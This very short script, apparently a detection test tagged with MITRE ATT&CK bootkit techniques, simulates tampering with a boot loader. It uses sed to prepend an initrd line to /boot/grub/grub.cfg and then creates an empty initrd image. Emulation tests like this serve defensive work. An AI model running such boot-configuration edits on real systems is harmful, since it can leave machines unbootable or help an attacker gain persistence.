# title: The boot loader starts another initial file system
# technique: T1542.003 T1542

sed -i '1i initrd /boot/initrd.img-x' /boot/grub/grub.cfg
cp /dev/null /boot/initrd.img-test
